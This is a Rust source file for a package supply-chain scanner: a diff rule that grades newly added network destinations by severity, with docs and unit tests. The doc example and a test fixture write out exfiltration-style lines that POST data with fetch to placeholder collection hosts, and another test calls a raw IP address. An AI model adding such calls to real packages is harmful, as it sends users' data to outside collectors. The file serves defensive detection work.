use palisade_diagnostics::{Finding, HostKind, Severity};

use crate::classify;
use crate::diff::rules::{DiffContext, DiffRule};
use crate::diff::{Capability, Change};
use crate::rule::{RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Reports a network destination (a host, after constant propagation) the
    /// new version reaches or names that the old version did not. A known
    /// collection service (webhook catchers, OAST, tunnels, paste sites) is
    /// high; a call to a raw IP address is high; a call to another outside
    /// host is medium, raised to high in a quiet patch or minor release; a
    /// host only mentioned in a string, the vendor's own domain, loopback,
    /// private and placeholder hosts are context.
    ///
    /// ## Why is this bad?
    /// Where a package sends data is its most important capability. A new
    /// destination in a release that announced nothing is the shape of
    /// exfiltration added by a compromised maintainer account.
    ///
    /// ## Example
    /// ```diff
    ///  async function report(data) {
    /// +  await fetch('https://abc.oast.invalid/x', { method: 'POST', body: data });
    /// ```
    ///
    /// ## References
    /// - `ua-parser-js` 0.7.29 (2021); Shai-Hulud webhook exfiltration (2025).
    NewNetworkDestination {
        id: "diff/new-network-destination",
        severity: Medium,
        status: Stable,
        summary: "The new version reaches a network destination the old one did not",
    }
}

impl DiffRule for NewNetworkDestination {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &DiffContext<'_>, change: &Change) -> Option<Finding> {
        let Capability::Network {
            host,
            destination,
            api,
            host_kind,
            collector,
        } = &change.capability
        else {
            return None;
        };
        let local = matches!(host_kind, Some(HostKind::Loopback | HostKind::PrivateIp))
            || classify::is_placeholder_host(host);
        let vendor = ctx.is_vendor_host(host);
        let severity = if collector.is_some() && !vendor {
            Severity::High
        } else if api.is_none() || local || vendor {
            Severity::Info
        } else if matches!(host_kind, Some(HostKind::Ipv4 | HostKind::Ipv6)) {
            Severity::High
        } else if ctx.old_named(host) {
            Severity::Low
        } else {
            ctx.raised(Severity::Medium)
        };
        let what = destination.as_deref().unwrap_or(host);
        let mut message = match api {
            Some(api) => format!("{} newly calls `{api}` to `{what}`", ctx.versions()),
            None => format!("{} newly names the host `{host}`", ctx.versions()),
        };
        if let Some(c) = collector {
            message.push_str(&format!(", a `{c}` service"));
        } else if !vendor && !local && api.is_some() {
            message.push_str(", outside the vendor's domains");
        }
        if severity > Severity::Info {
            message.push_str(&ctx.why());
        }
        Some(ctx.finding(&Self::META, severity, message, change))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diff::tester::{DiffTester, Pair};

    #[test]
    fn rule() {
        DiffTester::new(&NewNetworkDestination::META).test(
            &[
                Pair(
                    &[("package.json", r#"{"name":"m","version":"1.0.0"}"#), ("index.js", "async function report(d) {\n  return d;\n}\n")],
                    &[("package.json", r#"{"name":"m","version":"1.0.1"}"#), ("index.js", "async function report(d) {\n  await fetch('https://metrics.other.invalid/x', { method: 'POST', body: d });\n  return d;\n}\n")],
                ),
                Pair(
                    &[("package.json", r#"{"name":"m","version":"1.0.0"}"#), ("index.js", "")],
                    &[("package.json", r#"{"name":"m","version":"2.0.0"}"#), ("index.js", "https.get('http://203.0.113.7:8080/p');\n")],
                ),
            ],
            &[
                // The same call, reformatted.
                Pair(
                    &[("package.json", r#"{"name":"m","version":"1.0.0"}"#), ("index.js", "fetch('https://api.other.invalid/v1');\n")],
                    &[("package.json", r#"{"name":"m","version":"1.0.1"}"#), ("index.js", "\n\nfetch(\n  'https://api.other.invalid/v1'\n);\n")],
                ),
                // Only a link in a string: reported as info, not by this list.
                Pair(
                    &[("package.json", r#"{"name":"m","version":"1.0.0"}"#), ("index.js", "fetch('http://127.0.0.1:3000/');\n")],
                    &[("package.json", r#"{"name":"m","version":"1.0.1"}"#), ("index.js", "fetch('http://127.0.0.1:3000/');\nfetch('http://127.0.0.1:3000/health');\n")],
                ),
            ],
        );
    }
}
